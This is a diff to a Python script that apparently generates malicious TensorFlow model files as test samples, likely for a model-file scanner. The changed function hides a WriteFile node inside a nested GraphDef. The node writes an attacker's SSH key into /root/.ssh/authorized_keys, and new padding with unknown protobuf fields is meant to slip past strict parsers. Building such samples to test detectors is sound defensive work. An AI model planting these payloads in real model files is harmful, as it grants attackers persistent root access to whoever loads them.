@@ -399,13 +399,14 @@ def mask_graph():
     ])
 
 
-def nested_writefile():
+def nested_writefile(pad=b""):
     """The DatasetFromGraph trick: WriteFile lives in a GraphDef serialized
-    into a string constant inside the model function."""
+    into a string constant inside the model function. pad appends fields
+    TensorFlow's parser skips as unknown (to defeat strict trial parses)."""
     inner = graphdef([
         sconst("filename", "/root/.ssh/authorized_keys"),
         sconst("contents", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIattacker attacker@evil"),
-        node("write", "WriteFile", ["filename", "contents"]),
+        node("write", "WriteFile", ["filename", "contents"]) + pad,
         node("ds", "TensorDataset", ["filename"], {"Toutput_types": a_types([DT_STRING]), "output_shapes": fbytes(1, fbytes(7, b""))}),
     ])
     return tf2_model(call_extra=[
@@ -450,6 +451,7 @@ def main():
         "custom_op.pb": tf2_model(call_extra=[
             node("custom/ZeroOut", "ZeroOut", ["input_1"], {"T": a_type(DT_FLOAT)})]),
         "nested_writefile.pb": nested_writefile(),
+        "nested_unknown_fields.pb": nested_writefile(pad=fvarint(99, 1) + fbytes(6, fvarint(1, 7))),
         "backdoor_select.pb": backdoor_graph(),
         "benign_mask.pb": mask_graph(),
     }
